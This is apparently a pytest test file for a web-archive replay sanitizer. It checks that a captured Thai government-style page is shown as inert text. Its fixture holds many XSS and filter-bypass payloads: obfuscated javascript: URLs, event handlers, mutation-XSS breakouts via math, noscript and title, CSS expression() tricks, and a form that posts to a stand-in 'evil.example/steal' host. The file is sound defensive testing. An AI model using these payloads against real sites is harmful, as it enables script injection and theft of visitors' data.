"""A captured page is shown as it read, and nothing of it acts or loads."""

import re

import pytest
from received import SITE, fetched
from selectolax.lexbor import LexborHTMLParser

from prongsai.collect.evidence.recording import warc
from prongsai.collect.evidence.recording.archive import find
from prongsai.collect.evidence.recording.records import Damaged
from prongsai.collect.evidence.recording.replay import MOST, POLICY, page

NASTY = """<!doctype html><html lang="th" onload="evil()"><head>
<title>แผน </title><script>evil()</script></title><base href="/sub/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src evil">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>
<script src="https://evil.example/c.js"></script></head>
<body onload=evil() background="https://evil.example/d.png" style="background:url(https://evil.example/e)">
<h1 onclick="evil()" style="color:#333;position:fixed;background-image:url('https://evil.example')">แผน</h1>
<p>ปี ๒๕๖๕ <a href="javascript:evil()">ก</a> <a href=" java&#10;script:evil()">ข</a>
<a href="JaVaScRiPt&colon;evil()">ค</a> <a href="data:text/html,<script>evil()</script>">ง</a>
<a href="vbscript:evil">จ</a> <a href="file:///etc/evil">ฉ</a> <a href="http://[evil">ช</a>
<a href="plan.pdf" ping="https://evil.example" target="_top" onmouseover=evil()>แผน (PDF)</a>
<a href="mailto:saraban@example2.go.th">อีเมล</a></p>
<img src="logo.png" srcset="https://evil.example/2x 2x" onerror="evil()" alt="ตรา">
<img src="https://tracker.example/evil.gif" alt="รูป"> <img src="data:image/svg+xml;base64,evil">
<picture><source srcset="https://evil.example/f"><img src="/g.jpg" alt="กิจกรรม"></picture>
<svg onload="evil()"><script>evil()</script><a xlink:href="javascript:evil()"><text>x</text></a>
<use href="https://evil.example/h.svg#x"/><foreignObject><iframe srcdoc="evil"></iframe></foreignObject></svg>
<math><mtext><mglyph><style><img src=x onerror=evil()></style></mglyph></mtext></math>
<noscript><p title="</noscript><img src=x onerror=evil()>">evil</p></noscript>
<template><script>evil()</script></template>
<iframe src="https://maps.example/office" srcdoc="<script>evil()</script>">evil</iframe>
<object data="/film.swf"><param name="evil" value="evil"></object><embed src="/x.pdf" onload="evil()">
<form action="https://evil.example/steal" method="post"><label>เรื่อง <input name="evil" placeholder="หัวข้อ"
autofocus onfocus="evil()"></label><textarea name="t"></textarea><input type="hidden" value="evil">
<button formaction="https://evil.example/">ส่ง</button></form>
<video src="/v.mp4" poster="https://evil.example/p" autoplay onplay="evil()"></video>
<table><tr><th scope="col" onclick="evil()">ลำดับ</th></tr><tr><td colspan=2
style="width:expression(evil());color:RGB(1, 2,3);height:u\\72l(evil)">1</td>
</tr></table><!-- evil --><plaintext></body><script>evil()</script>"""
TAGS = {"html", "head", "meta", "title", "style", "body"} | {
    *("a", "h1", "p", "img", "table", "tbody", "tr", "th", "td")
}


def shown(text, path="/plan/page.html", **answer):
    body = text if isinstance(text, bytes) else text.encode()
    archive = warc.write([fetched(path, body, **answer)], software="x")
    seen = []

    def link(address):
        seen.append(address)
        return f"/captured?address={address}"

    def picture(address):
        return "/captured/logo" if address.endswith("logo.png") else ""

    captured = find(archive, SITE + path)
    return page(captured, link=link, picture=picture, language="en"), seen


@pytest.fixture(scope="module")
def nasty():
    return shown(NASTY)


def test_nothing_of_a_nasty_page_acts_or_loads(nasty):
    text, _ = nasty
    tree = LexborHTMLParser(text)
    held = {(node.tag, name) for node in tree.root.traverse() for name in node.attributes}

    assert {node.tag for node in tree.root.traverse() if not node.tag.startswith("-")} <= TAGS
    assert {name for _, name in held} <= {
        *("href", "rel", "src", "alt", "style", "scope", "colspan", "lang", "charset")
    }
    assert [
        value for node in tree.root.traverse() for value in node.attributes.values() if "evil" in value
    ] == []
    assert set(re.findall(r'(?:src|href)="([^"]*)"', text)) == {
        "/captured/logo",
        f"/captured?address={SITE}/sub/plan.pdf",
        "mailto:saraban@example2.go.th",
    }


def test_what_a_reader_saw_is_still_there(nasty):
    text, seen = nasty
    words = LexborHTMLParser(text).body.text()

    assert [word for word in ("แผน", "ปี ๒๕๖๕", "แผน (PDF)", "เรื่อง", "ลำดับ") if word not in words] == []
    assert 'lang="th"' in text
    assert '<h1 style="color:#333">แผน</h1>' in text
    assert '<td colspan="2" style="color:RGB(1, 2, 3)">1</td>' in text
    assert seen == [f"{SITE}/sub/plan.pdf"]


def test_words_stand_where_something_is_not_shown(nasty):
    words = LexborHTMLParser(nasty[0]).body.text()

    assert re.findall(r"\[[a-z][^\]]*\]", words) == [
        "[frame, not shown: https://maps.example/office]",
        f"[frame, not shown: {SITE}/film.swf]",
        f"[frame, not shown: {SITE}/x.pdf]",
        "[field หัวข้อ]",
        "[field ]",
        "[button ส่ง]",
        f"[media, not shown: {SITE}/v.mp4]",
    ]


def test_a_page_in_an_old_thai_charset_is_read():
    text, _ = shown(
        "<p>แผนปฏิบัติการ</p>".encode("cp874"), headers={"content-type": "text/html; charset=TIS-620"}
    )

    assert "<p>แผนปฏิบัติการ</p>" in text


def test_a_title_cannot_break_out():
    text, _ = shown("<title>&lt;/title>&lt;script>evil()&lt;/script></title><p>x")

    assert "<title>&lt;/title&gt;&lt;script&gt;evil()&lt;/script&gt;</title>" in text


@pytest.mark.parametrize("base", ["javascript:evil()//", "ftp://evil.example/", "http://[evil/"])
def test_a_base_of_another_scheme_is_ignored(base):
    _, seen = shown(f'<base href="{base}"><a href="a.pdf">a</a>')

    assert seen == [f"{SITE}/plan/a.pdf"]


@pytest.mark.parametrize("body", ["<div>" * 5_000, "x" * (MOST + 1)], ids=["deep", "large"])
def test_a_page_that_would_take_too_long_is_not_shown(body):
    with pytest.raises(Damaged, match="not shown: the page is too large or nested too deep"):
        shown(body)


def test_the_policy_lets_nothing_run():
    assert POLICY.startswith("default-src 'none'")
    assert "script-src" not in POLICY
    assert "allow-scripts" not in POLICY
